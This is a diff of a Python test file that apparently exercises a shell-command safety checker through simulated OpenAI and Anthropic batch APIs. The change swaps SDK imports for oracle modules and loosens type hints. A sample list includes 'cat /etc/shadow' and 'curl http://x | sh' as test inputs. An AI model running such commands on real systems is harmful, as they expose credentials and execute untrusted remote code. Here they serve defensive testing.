@@ -7,12 +7,11 @@ from collections.abc import Callable, Iterator, Mapping
 from typing import Any, TypeVar
 
 import pytest
-from anthropic import Anthropic
-from openai import OpenAI
 
 from aegish_dist.simulator.personas import NO_LATENCY
 from aegish_dist.simulator.server import simulator_thread
 from tests.batch_server.server import BatchPlan, BatchScenario, BatchSimulator
+from tests.oracles import anthropic, openai
 
 DEADLINE_S = 20.0
 COMMANDS = ("cat /etc/shadow", "ls", "curl http://x | sh")
@@ -42,8 +41,8 @@ def names() -> list[str]:
     return [f"t-{place}" for place in range(len(COMMANDS))]
 
 
-def openai_client(url: str) -> OpenAI:
-    return OpenAI(base_url=f"{url}/v1", api_key="k", max_retries=0)
+def openai_client(url: str) -> Any:
+    return openai.OpenAI(base_url=f"{url}/v1", api_key="k", max_retries=0)
 
 
 def openai_body(command: str) -> dict[str, Any]:
@@ -59,7 +58,7 @@ def openai_lines(*commands: str) -> bytes:
     return "\n".join(map(json.dumps, entries)).encode()
 
 
-def openai_batch(client: OpenAI, content: bytes) -> Any:
+def openai_batch(client: Any, content: bytes) -> Any:
     file = client.files.create(file=("requests.jsonl", content), purpose="batch")
     window: Any = "24h"
     return client.batches.create(
@@ -67,7 +66,7 @@ def openai_batch(client: OpenAI, content: bytes) -> Any:
     )
 
 
-def openai_ended(client: OpenAI, name: str) -> Any:
+def openai_ended(client: Any, name: str) -> Any:
     ended = {"completed", "failed", "expired", "cancelled"}
     return until(lambda: client.batches.retrieve(name), lambda batch: batch.status in ended)
 
@@ -92,9 +91,9 @@ def openai_answers(url: str) -> tuple[Answers, Answers]:
     )
 
 
-def anthropic_client(url: str) -> Anthropic:
+def anthropic_client(url: str) -> Any:
     key = {"x-api-key": "k"}
-    return Anthropic(base_url=url, api_key="k", max_retries=0, default_headers=key)
+    return anthropic.Anthropic(base_url=url, api_key="k", max_retries=0, default_headers=key)
 
 
 def anthropic_requests(*commands: str) -> list[Any]:
@@ -108,7 +107,7 @@ def anthropic_requests(*commands: str) -> list[Any]:
     ]
 
 
-def anthropic_ended(client: Anthropic, name: str) -> Any:
+def anthropic_ended(client: Any, name: str) -> Any:
     batches = client.messages.batches
     return until(lambda: batches.retrieve(name), lambda each: each.processing_status == "ended")
 
@@ -141,7 +140,7 @@ def simulated(seconds: float) -> BatchSimulator:
     return BatchSimulator(BatchScenario(latency=NO_LATENCY, batches=plan))
 
 
-def results_of(client: OpenAI, file: str) -> list[Any]:
+def results_of(client: Any, file: str) -> list[Any]:
     return [json.loads(line) for line in client.files.content(file).iter_lines()]
 
 
